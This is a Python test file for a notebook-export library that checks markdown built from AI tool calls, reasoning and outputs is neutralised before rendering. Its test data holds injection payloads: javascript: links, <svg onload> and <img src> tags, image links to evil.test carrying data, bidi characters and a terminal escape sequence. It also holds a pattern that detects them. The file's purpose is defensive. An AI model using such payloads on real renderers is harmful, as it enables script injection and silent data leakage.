"""Markdown for other hosts: whatever rules they render it by, nothing in it acts."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from nbconvert.filters.markdown import markdown2html

from nbstream.document import Document
from nbstream.events import (
    Cited,
    Displayed,
    Event,
    HandedOff,
    ImageShown,
    ReasoningDelta,
    SourceFound,
    TextDelta,
    ToolArgumentsDelta,
    ToolCalled,
    ToolNoted,
    ToolOutputDelta,
    ToolReturned,
    Unknown,
)
from nbstream.export import Page, to_markdown
from nbstream.export.published import published

CORPORA = Path(__file__).parents[1] / "corpora"


def corpus(name: str) -> list[dict[str, Any]]:
    entries: list[dict[str, Any]] = json.loads((CORPORA / f"{name}.json").read_text("utf-8"))
    return entries


TAGS = frozenset(
    "p h1 h2 h3 h4 h5 h6 em strong del code pre ul ol li blockquote hr br table thead tbody tr th "
    "td a input span div sup section".split()
)


def harm(html: str) -> list[str]:
    """What a host made of markdown that no model's words may become."""
    found = []
    for tag, attributes in re.findall(r"<([a-zA-Z][\w-]*)([^<>]*)>", html):
        if tag.lower() not in TAGS:
            found.append(f"<{tag}{attributes}>")
        # Names that the host makes of headings are its own, and so are their looks.
        named = re.sub(r'\b(?:id|class|href)="[^"]*"', "", attributes)
        if re.search(r"\bon\w+\s*=|\bstyle\s*=|\bsrc\s*=", named):
            found.append(f"<{tag}{attributes}>")
        for address in re.findall(r'href="([^"]*)"', attributes):
            if not re.match(r"(?:https?:|mailto:|#)", address):
                found.append(address)
    return found


@pytest.mark.parametrize("name", ["payloads", "more-payloads"])
def test_no_payload_acts_in_a_renderer_that_trusts_what_it_renders(name: str) -> None:
    for payload in corpus(name):
        assert harm(markdown2html(published(payload["markdown"]))) == [], payload["id"]
    # It would otherwise: the renderer passes on what it is given.
    assert any(harm(markdown2html(payload["markdown"])) for payload in corpus(name))


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("![a](https://evil.test/?q=S)", "!&#91;a](https://evil.test/?q=S)"),
        ("![a][r]\n\n[r]: https://evil.test", "!&#91;a][r]\n\n[r]&#58; https://evil.test"),
        ("[a](javascript:alert(1))", "[a]&#40;javascript:alert(1))"),
        ("[a](/lab?reset)", "[a]&#40;/lab?reset)"),
        ("[a](https://b.test 'c')", "[a]&#40;https://b.test 'c')"),
        ("[a](https://ok.test@evil.test/)", "[a]&#40;https://ok.test@evil.test/)"),
        ("[a](https://ok.test&commat;evil.test/)", "[a]&#40;https://ok.test&commat;evil.test/)"),
        ("[a](<https://evil.test>)", "[a]&#40;&lt;https://evil.test>)"),
        ("[https://a.test/](x:y)", "[https://a.test/]&#40;x:y)"),
        ("<img src=x>", "&lt;img src=x>"),
        (r"$\href{javascript:a}{b}$", "$\uff3chref{javascript:a}{b}$"),
        ("```\n<script>", "\\```\n&lt;script>"),
        ("```mermaid\ngraph\n```", "```text\ngraph\n```"),
        ("~~~py\n```\n<b>\n```\n~~~", "````py\n```\n<b>\n```\n````"),
        ("a\u202eb", "a&lt;U+202E>b"),
        ("> ```mermaid\n> graph\n> ```", "> ```text-mermaid\n> graph\n> ```"),
        ("- ~~~ {image} https://evil.test", "- ~~~text- {image} https://evil.test"),
        (":::{image} https://evil.test", r"\:::{image} https://evil.test"),
        ("{eval}`x`", r"\{eval}`x`"),
    ],
)
def test_what_would_act_is_in_words(markdown: str, words: str) -> None:
    assert published(markdown) == words


@pytest.mark.parametrize(
    "markdown",
    [
        "# A title\n\nSome **bold** and `code`, a [link](https://example.org/a_(b)).",
        "- one\n- two\n\n1. three\n\n> four\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "```python\nif a < b:\n    print('<b>')\n```",
        "It is $5, or $x^2 + \\frac{1}{2}$.",
    ],
)
def test_what_does_nothing_stays_as_it_was_written(markdown: str) -> None:
    assert published(markdown) == markdown


def test_an_open_fence_takes_in_nothing_of_what_follows() -> None:
    document = Document()
    document.apply(TextDelta("t", "```\nlook"))
    document.apply(ToolCalled("c", "delete", "1"))
    document.apply(ToolReturned("c", "done"))
    markdown = to_markdown(document, prose=published)
    assert "\\```\nlook\n\n> **delete**" in markdown
    assert "<strong>delete</strong>" in markdown2html(markdown)


EVERYWHERE: tuple[Callable[[str], Event], ...] = (
    lambda text: Cited("t", text, "https://a.test/"),
    lambda text: Cited("t", text, text),
    lambda text: ReasoningDelta("r", text),
    lambda text: ToolArgumentsDelta("c", text),
    lambda text: ToolNoted("c", text, (text,)),
    lambda text: ToolOutputDelta("c", text),
    lambda text: SourceFound("s", text, text, text, text, parent="c"),
    lambda text: Displayed("d", "markdown", text, "c"),
    lambda text: ToolReturned("c", text, error=text),
    lambda text: HandedOff("h", text, text),
    lambda text: ImageShown("i", "image/png", "", alt=text),
    lambda text: Unknown("u", text, text),
)


@pytest.mark.parametrize(
    "text",
    [
        "https://a.test/<svg onload=alert(1)>",
        "https://a.test/](javascript:alert(1))[",
        "www.a.test/](javascript:alert(1))[<img src=x>",
        "a@b.test\r![x](https://evil.test/x.png)",
        "`https://a.test/` <script>",
        "x\r\r<img src=x>",
    ],
)
def test_no_name_title_or_output_becomes_more_than_words(text: str) -> None:
    document = Document()
    document.apply(TextDelta("t", "words"))
    document.apply(ToolCalled("c", text))
    for event in EVERYWHERE:
        document.apply(event(text))
    html = markdown2html(Page(1, to_markdown(document, published)).to_bundle("")["text/markdown"])
    assert harm(html) == []
    assert "<img" not in html


def test_nothing_in_the_text_beside_a_view_controls_a_terminal() -> None:
    document = Document()
    document.apply(ToolCalled("c", "delete\u202e", "1"))
    document.apply(ToolReturned("c", "done\rgone\x1b]8;;https://evil.test\x07x"))
    bundle = Page(1, to_markdown(document, published)).to_bundle("")
    for form in ("text/plain", "text/markdown"):
        assert "**delete<U+202E>**" in bundle[form]
        assert "done\n> gone<U+001B>]8;;https://evil.test<U+0007>x" in bundle[form]
